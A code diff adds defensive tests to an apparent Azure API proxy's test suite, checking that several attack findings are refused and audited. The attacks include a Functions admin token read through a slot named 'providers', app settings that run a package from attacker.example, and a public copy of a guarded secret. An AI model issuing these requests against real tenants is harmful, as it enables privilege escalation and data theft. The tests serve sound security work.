@@ -598,6 +598,100 @@ describe("the proxy's request path, in process", () => {
       expect(reached(from, "/reports/")).toEqual([]);
     });
 
+    it("a web app slot named providers: the Functions admin token is refused, not read as functions/admin/read and let through by */read past the preset (attack finding 6), audited", async () => {
+      await c.createRoles(`kind: role
+version: v7
+metadata: {name: slot-reader}
+spec:
+  allow: {app_labels: {'*': '*'}, azure_identities: ['${READER}'], azure_api: [{actions: ['*/read']}]}
+  deny: {azure_api: [{preset: no-privilege-escalation}]}
+`);
+      const user = nextUser();
+      const app = await c.appSession(user, ["slot-reader"], READER);
+      expect((await app.request(GROUPS)).status).toBe(200);
+      const from = fx.emu.requests.length;
+      const site = `https://management.azure.com${S}/resourceGroups/web/providers/Microsoft.Web/sites/app1/slots`;
+      // The plain slot, then the name spelt providers in other ways: capitals, a trailing slash, a regional host.
+      const urls = [`${site}/staging/functions/admin/token`, `${site}/providers/functions/admin/token`, `${site}/PROVIDERS/functions/admin/token/`, `${site.replace("management.", "westeurope.management.")}/Providers/functions/admin/token`];
+      for (const url of urls) expect((await refusedWith(await app.request(`${url}?api-version=2022-03-01`))).code, url).toBe("AzgatePolicyDenied");
+      const denied = await events("app.request.denied", user);
+      expect(denied[0]).toMatchObject({ error_code: "policy_denied", success: false, action: "Microsoft.Web/sites/slots/functions/token/read", policy: { decision: "deny", role: "slot-reader", preset: "no-privilege-escalation" } });
+      expect(denied.slice(1)).toEqual([1, 2, 3].map(() => expect.objectContaining({ error_code: "policy_denied", success: false, action: null, policy: { decision: "deny", reason: expect.stringMatching(/a name spelt "providers" \(segment 10, after "slots"\) reads as ARM's providers keyword/i) } })));
+      expect(reached(from, "/functions/admin/token")).toEqual([]);
+    });
+
+    it("app settings, a Container Apps job's template and start, a Logic App trigger's callback URL: code or a credential under the resource's identity, denied by the preset (attack finding 8), audited", async () => {
+      const user = nextUser();
+      const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
+      const from = fx.emu.requests.length;
+      const rg = `https://management.azure.com${S}/resourceGroups/web/providers`;
+      const attempts: [string, string, string][] = [
+        ["PUT", `${rg}/Microsoft.Web/sites/app1/config/appsettings`, "Microsoft.Web/sites/config/write"],
+        ["PUT", `${rg}/Microsoft.Web/sites/app1/slots/staging/config/web`, "Microsoft.Web/sites/slots/config/write"],
+        ["PUT", `${rg}/Microsoft.App/jobs/job1`, "Microsoft.App/jobs/write"],
+        ["POST", `${rg}/Microsoft.App/jobs/job1/start`, "Microsoft.App/jobs/start/action"],
+        ["POST", `${rg}/Microsoft.Logic/workflows/wf1/triggers/manual/listCallbackUrl`, "Microsoft.Logic/workflows/triggers/listCallbackUrl/action"],
+      ];
+      for (const [method, url] of attempts) {
+        const res = await app.request(`${url}?api-version=2023-01-01`, { method, body: new TextEncoder().encode('{"properties":{"WEBSITE_RUN_FROM_PACKAGE":"https://attacker.example/pkg.zip"}}'), headers: [["content-type", "application/json"]] });
+        expect((await refusedWith(res)).message, url).toContain("is denied by role guard (preset no-privilege-escalation)");
+      }
+      const denied = await events("app.request.denied", user);
+      expect(denied.map((e) => e.action)).toEqual(attempts.map(([, , action]) => action));
+      for (const e of denied) expect(e).toMatchObject({ error_code: "policy_denied", success: false, policy: { decision: "deny", role: "guard", preset: "no-privilege-escalation" } });
+      expect(fx.emu.requests.slice(from).filter((r) => /\/(config|jobs|workflows)\//i.test(r.path))).toEqual([]);
+    });
+
+    it("ADLS Gen2: a delete and a rename through the account's dfs host are Blob's deletes, denied by the role that denies them (attack finding 7), audited", async () => {
+      const C = "Microsoft.Storage/storageAccounts/blobServices/containers";
+      await c.createRoles(`kind: role
+version: v7
+metadata: {name: blob-data-guard}
+spec:
+  deny: {azure_api: [{data_actions: ['${C}/blobs/delete']}]}
+  options: {azure_api_unknown: allow}
+`);
+      const user = nextUser();
+      const app = await c.appSession(user, ["azure-cli-access", "blob-data-guard"], READER);
+      const from = fx.emu.requests.length;
+      const storage = { resource: "https://storage.azure.com/" };
+      for (const url of ["https://sa1.blob.core.windows.net/reports/q1.csv", "https://sa1.dfs.core.windows.net/reports/q1.csv", "https://sa1.dfs.core.windows.net/reports/q1.csv/", "https://sa1.dfs.core.windows.net/reports/2024?recursive=true"]) {
+        expect((await refusedWith(await app.request(url, { ...storage, method: "DELETE" }))).code, url).toBe("AzgatePolicyDenied");
+      }
+      // A rename moves its source away: the source's delete is decided too.
+      const rename = await app.request("https://sa1.dfs.core.windows.net/trash/q1.csv?mode=legacy", { ...storage, method: "PUT", headers: [["x-ms-rename-source", "/reports/q1.csv"]] });
+      expect((await refusedWith(rename)).message).toMatch(/the rename's source, removed: .*blobs\/delete on https:\/\/sa1\.blob\.core\.windows\.net\/reports\/q1\.csv is denied by role blob-data-guard/);
+      const denied = await events("app.request.denied", user);
+      expect(denied.map((e) => [e.method, e.host, e.error_code, e.action, e.scope])).toEqual([
+        ["DELETE", "sa1.blob.core.windows.net", "policy_denied", `${C}/blobs/delete`, "https://sa1.blob.core.windows.net/reports/q1.csv"],
+        ["DELETE", "sa1.dfs.core.windows.net", "policy_denied", `${C}/blobs/delete`, "https://sa1.blob.core.windows.net/reports/q1.csv"],
+        ["DELETE", "sa1.dfs.core.windows.net", "policy_denied", `${C}/blobs/delete`, "https://sa1.blob.core.windows.net/reports/q1.csv"],
+        ["DELETE", "sa1.dfs.core.windows.net", "policy_denied", `${C}/blobs/delete`, "https://sa1.blob.core.windows.net/reports/2024"],
+        ["PUT", "sa1.dfs.core.windows.net", "policy_denied", `${C}/blobs/delete`, "https://sa1.blob.core.windows.net/reports/q1.csv"],
+      ]);
+      for (const e of denied) expect(e).toMatchObject({ success: false, policy: { decision: "deny", role: "blob-data-guard", side: "deny", rule: 1 } });
+      expect(fx.emu.requests.slice(from).filter((r) => /\/(reports|trash)/.test(r.path))).toEqual([]);
+
+      // The guard's rule written for the blob host (GET /reports/secret.txt) decides the dfs read by name.
+      const reader = nextUser();
+      const guarded = await c.appSession(reader, ["azure-cli-access", "guard"], READER);
+      expect((await refusedWith(await guarded.request("https://sa1.dfs.core.windows.net/reports/secret.txt", storage))).code).toBe("AzgatePolicyDenied");
+      expect(await events("app.request.denied", reader)).toEqual([expect.objectContaining({ host: "sa1.dfs.core.windows.net", action: `${C}/blobs/read`, policy: expect.objectContaining({ decision: "deny", role: "guard", side: "deny", rule: 2 }) })]);
+    });
+
+    it("a Blob copy whose source the guard denies reading (/reports/secret.txt) is refused: no copying it where it may be read, audited", async () => {
+      const user = nextUser();
+      const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
+      const from = fx.emu.requests.length;
+      const copy = (source: string) => app.request("https://sa1.blob.core.windows.net/public/leak.txt", { resource: "https://storage.azure.com/", method: "PUT", body: new Uint8Array(0), headers: [["x-ms-copy-source", source], ["x-ms-blob-type", "BlockBlob"]] });
+      for (const source of ["https://sa1.blob.core.windows.net/reports/secret.txt", "https://sa1.dfs.core.windows.net/reports/secret.txt?sv=2023-01-03&sig=x"]) {
+        expect((await refusedWith(await copy(source))).message, source).toMatch(/the copy's source, read: .*blobs\/read on https:\/\/sa1\.blob\.core\.windows\.net\/reports\/secret\.txt is denied by role guard \(deny rule 2\)/);
+      }
+      const denied = await events("app.request.denied", user);
+      expect(denied).toEqual([1, 2].map(() => expect.objectContaining({ method: "PUT", path: "/public/leak.txt", error_code: "policy_denied", action: "Microsoft.Storage/storageAccounts/blobServices/containers/blobs/read", scope: "https://sa1.blob.core.windows.net/reports/secret.txt", policy: expect.objectContaining({ decision: "deny", role: "guard", rule: 2 }) })));
+      expect(reached(from, "/public/")).toEqual([]);
+    });
+
     it("a role assignment through a regional ARM host is named and denied by the preset, audited", async () => {
       const user = nextUser();
       const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
